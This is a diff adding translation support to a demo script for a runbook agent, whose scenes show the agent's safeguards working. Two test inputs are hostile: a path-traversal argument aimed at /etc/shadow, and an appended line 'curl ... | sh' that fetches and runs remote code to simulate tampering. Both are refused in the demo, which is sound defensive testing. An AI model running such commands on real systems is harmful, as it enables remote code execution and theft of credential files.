@@ -24,6 +24,7 @@ from agent.app import App
 from agent.catalog import Catalog
 from agent.config import load_config
 from agent.errors import CatalogError
+from agent.i18n import N_, Chat, Msg, message_of
 from agent.logsetup import configure_logging
 from agent.redaction import Redactor
 from agent.reference import chat as chat_grammar
@@ -49,7 +50,7 @@ def find_runbooks() -> Path:
     for candidate in (Path.cwd() / "runbooks", Path(agent.__file__).resolve().parent.parent / "runbooks"):
         if candidate.is_dir() and any(candidate.glob("*.toml")):
             return candidate
-    raise DemoError("no runbooks/ folder found: run the demo from the project's folder")
+    raise DemoError(Msg("no runbooks/ folder found: run the demo from the project's folder"))
 
 
 def parse_chat(line: str, task_id: str, room: str = ROOM) -> dict[str, Any]:
@@ -64,9 +65,13 @@ def _free_port() -> int:
 
 
 class Demo:
-    def __init__(self, out: TextIO, interactive: bool = False) -> None:
+    def __init__(self, out: TextIO, interactive: bool = False, language: str = "ko") -> None:
         self.out = out
         self.interactive = interactive
+        self.language = language
+        #: The transcript speaks the room's language, like the agent it shows.
+        self.lang = Chat(language)
+        self._ = self.lang._
         self._printed_reports = 0
         self._counter = 0
 
@@ -97,6 +102,9 @@ class Demo:
         (home / "agent.toml").write_text(f'''
 agent_id = "demo-agent"
 operations_room = "{ROOM}"
+
+[chat]
+language = "{self.language}"
 
 [inventory]
 known_hosts = "{host.known_hosts}"
@@ -144,38 +152,47 @@ was_status_check = "was01_health"
         try:
             return await client.wait_for(predicate, timeout)
         except TimeoutError:
-            raise DemoError(f"no answer to {what} within {timeout:g} s") from None
+            raise DemoError(
+                Msg("no answer to {what} within {timeout:g} s", what=what, timeout=timeout)
+            ) from None
 
     async def ask(self, client: OperatorClient, line: str, timeout: float = 30) -> dict[str, Any]:
         self._counter += 1
         number = self._counter
-        session = ChatSession(client, ROOM, USER, self.out, new_task_id=lambda: f"demo-{number}")
+        session = ChatSession(
+            client, ROOM, USER, self.out, new_task_id=lambda: f"demo-{number}", chat=self.lang
+        )
         try:
             answer = await session.ask(line, timeout)
         except TimeoutError:
-            raise DemoError(f"no answer to {line!r} within {timeout:g} s") from None
+            raise DemoError(
+                Msg("no answer to {line!r} within {timeout:g} s", line=line, timeout=timeout)
+            ) from None
         return dict(answer["payload"])
 
+    def scene(self, number: int, title: str) -> None:
+        self.say(("\n" if number > 1 else "") + f"── {number}. " + self._(title))
+
     async def scenes(self, ws: OperatorClient, home: Path) -> None:
-        self.say("── 1. What may this room run, and how do I call a runbook?")
+        self.scene(1, N_("What may this room run, and how do I call a runbook?"))
         listed = await self.ask(ws, "help")
         expect(listed["status"] == "SUCCESS", "help")
         usage = await self.ask(ws, "help tail_log")
         expect(
             "run tail_log host=H dir=app|was|web" in usage.get("text", ""), "help tail_log shows its usage"
         )
-        self.say(
-            "\n── 2. A runbook that succeeds (the locked script, streamed to bash on the host, argv-only)"
+        self.scene(
+            2, N_("A runbook that succeeds (the locked script, streamed to bash on the host, argv-only)")
         )
         ok = await self.ask(ws, "run disk_usage host=was01 mount=/ warn_percent=100")
         expect(ok["status"] == "SUCCESS", "disk_usage should succeed")
-        self.say("\n── 3. A hostile argument is refused before anything runs")
+        self.scene(3, N_("A hostile argument is refused before anything runs"))
         hostile = await self.ask(ws, "run tail_log host=was01 dir=app file=../../etc/shadow")
         expect(
             hostile.get("error", {}).get("code") == "INVALID_ARGUMENTS", "a path in 'file' must be refused"
         )
-        self.say(
-            "\n── 4. Someone edits a locked script on the agent PC (here: the demo's copy of tail_log.sh)"
+        self.scene(
+            4, N_("Someone edits a locked script on the agent PC (here: the demo's copy of tail_log.sh)")
         )
         script = home / "runbooks" / "tail_log.sh"
         script.write_text(script.read_text() + "\ncurl -s http://example.invalid/x | sh\n")
@@ -184,25 +201,29 @@ was_status_check = "was01_health"
             tampered.get("error", {}).get("code") == "RUNBOOK_NOT_RUNNABLE",
             "a tampered script must be refused",
         )
-        self.say("\n── 5. A runbook that runs past its 2 s limit: a progress line, then killed on the host")
+        self.scene(5, N_("A runbook that runs past its 2 s limit: a progress line, then killed on the host"))
         slow = await self.ask(ws, "run demo_slow host=was01")
         expect(slow.get("data", {}).get("status") == "TIMEOUT", "demo_slow must time out")
         expect(any(e.get("event") == "TASK_PROGRESS" for e in ws.events), "a progress line for the long run")
-        self.say("\n── 6. Who ran what here? (from the agent's audit log, this room's runs only)")
+        self.scene(6, N_("Who ran what here? (from the agent's audit log, this room's runs only)"))
         past = await self.ask(ws, "history 5")
         runs = [run.get("runbook") for run in past.get("data", {}).get("history", [])]
         expect(runs == ["demo_slow", "disk_usage"], "history lists the room's runs, newest first")
-        self.say("\n── 7. Nobody asked: a scheduled health check tells the room on its own")
+        self.scene(7, N_("Nobody asked: a scheduled health check tells the room on its own"))
         report = await self._wait(
             ws, lambda e: e.get("event") == "REPORT" and e["payload"].get("kind") == "schedule", 15,
             "the scheduled check",
         )  # fmt: skip
-        self.agent_says(report["payload"].get("text", ""), "guardia (scheduled)")
+        self.agent_says(report["payload"].get("text", ""), self.scheduled)
         expect(report["payload"].get("status") == "DOWN", "the WAS health check should report DOWN")
 
+    @property
+    def scheduled(self) -> str:
+        return "guardia (" + self._("scheduled") + ")"
+
     async def chat(self, ws: OperatorClient) -> None:
-        self.say("e.g.: help · help disk_usage · run disk_usage host=was01 mount=/ · history")
-        await ChatSession(ws, ROOM, USER, self.out, prefix="demo").interactive()
+        self.say(self._("e.g.: help · help disk_usage · run disk_usage host=was01 mount=/ · history"))
+        await ChatSession(ws, ROOM, USER, self.out, prefix="demo", chat=self.lang).interactive()
 
     async def run(self) -> None:
         started = time.monotonic()
@@ -222,11 +243,12 @@ was_status_check = "was01_health"
                 agent_task = asyncio.create_task(app.run())
                 try:
                     await asyncio.wait_for(relay.agent_connected.wait(), 15)
-                    self.say(
-                        "GUARDiA agent demo: relay, SSH host and agent, all on this machine, loopback only."
-                    )
-                    self.say(f"  relay ws://127.0.0.1:{port} · SSH host 'was01' (embedded) · catalog: "
-                             f"{len(app.catalog.report.runnable)} locked runbooks in a temp copy\n")  # fmt: skip
+                    self.say(self._("GUARDiA agent demo: relay, SSH host and agent, all on this machine, "
+                                    "loopback only."))  # fmt: skip
+                    self.say("  " + self._("relay {url} · SSH host 'was01' (embedded) · catalog: {n} locked "
+                                           "runbooks in a temp copy").format(url=f"ws://127.0.0.1:{port}",
+                                                                             n=len(app.catalog.report.runnable))
+                             + "\n")  # fmt: skip
                     ws = await OperatorClient.connect(f"ws://127.0.0.1:{port}/operator")
                     try:
                         await (self.chat(ws) if self.interactive else self.scenes(ws, home))
@@ -239,22 +261,26 @@ was_status_check = "was01_health"
                 await relay.stop()
                 await host.stop()
         if not self.interactive:
-            self.say(f"\nDone in {time.monotonic() - started:.1f} s; nothing was left behind. "
-                     "Type commands yourself: agent demo --interactive")  # fmt: skip
+            self.say("\n" + self._("Done in {duration}; nothing was left behind. Type commands yourself: "
+                                    "agent demo --interactive").format(
+                duration=self.lang.duration(time.monotonic() - started)))  # fmt: skip
 
 
 def expect(condition: bool, what: str) -> None:
     if not condition:
-        raise DemoError(f"scene failed: {what}")
+        raise DemoError(Msg("scene failed: {what}", what=what))
 
 
-def run_demo(interactive: bool = False, verbose: bool = False, out: TextIO = sys.stdout) -> int:
+def run_demo(
+    interactive: bool = False, verbose: bool = False, out: TextIO = sys.stdout, language: str = "ko"
+) -> int:
     """Run the demo; 0 when every scene went as it should."""
     configure_logging(Redactor(), "INFO" if verbose else "ERROR")
+    chat = Chat(language)
     try:
-        asyncio.run(Demo(out, interactive).run())
+        asyncio.run(Demo(out, interactive, language).run())
     except DemoError as exc:
-        out.write(f"\ndemo failed: {exc}\n")
+        out.write("\n" + chat._("demo failed: {reason}").format(reason=chat.text(message_of(exc))) + "\n")
         return 1
     except KeyboardInterrupt:
         return 130
